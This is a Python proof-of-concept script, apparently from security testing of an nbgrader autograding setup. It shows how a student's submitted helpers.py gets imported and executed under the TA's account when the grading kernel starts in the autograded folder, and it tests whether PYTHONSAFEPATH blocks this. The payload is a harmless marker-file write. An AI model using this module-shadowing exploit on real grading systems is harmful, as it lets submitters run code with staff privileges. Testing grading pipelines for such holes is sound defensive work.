"""Variant of a02 against a PYTHONSAFEPATH fix: the TA's kernel (started with PYTHONSAFEPATH=1, cwd = the graded
notebook's folder, as Jupyter starts it) runs the notebook's own setup cell (`import helpers`): IPython puts '' on
sys.path, so a hand-in's helpers.py (copied into autograded/ by nbgrader) is imported as the TA."""
from lib import *
from jupyter_client.manager import KernelManager
d = course("a06")
MARK = "/tmp/attack36-root-PWNED6.txt"
put(d, "aaron", honest())
p = put(d, "mallory", release())
open(f"{p}/helpers.py", "w").write(f'import os\nopen("{MARK}", "a").write(f"{{__file__}} uid={{os.getuid()}}\\n")\n')
put(d, "zoe", honest())
grade(d); scores(d)
folder = f"{d}/autograded/mallory/{A}"
print("autograded/mallory:", sorted(os.listdir(folder)))
for label, extra in (("PYTHONSAFEPATH=1, PYTHONPATH=clone", dict(PYTHONSAFEPATH="1", PYTHONPATH=CLONE)), ("make lab's environment (neither)", {})):
  if os.path.exists(MARK): os.remove(MARK)
  env = {k: v for k, v in os.environ.items() if k not in ("PYTHONSAFEPATH", "PYTHONPATH")}; env.update(extra)
  km = KernelManager(kernel_name="python3")
  km.start_kernel(cwd=folder, env=env)
  kc = km.client(); kc.start_channels(); kc.wait_for_ready(60)
  r = kc.execute_interactive("import sys; print(sys.path[:3]); import helpers; print(helpers.__file__)", timeout=60,
                           output_hook=lambda m: print("kernel:", m["content"].get("text", "").strip()) if m["msg_type"] == "stream" else None)
  kc.stop_channels(); km.shutdown_kernel(now=True)
  print(label, "-> ran as the TA:", open(MARK).read() if os.path.exists(MARK) else "nothing")
  if os.path.exists(MARK): os.remove(MARK)
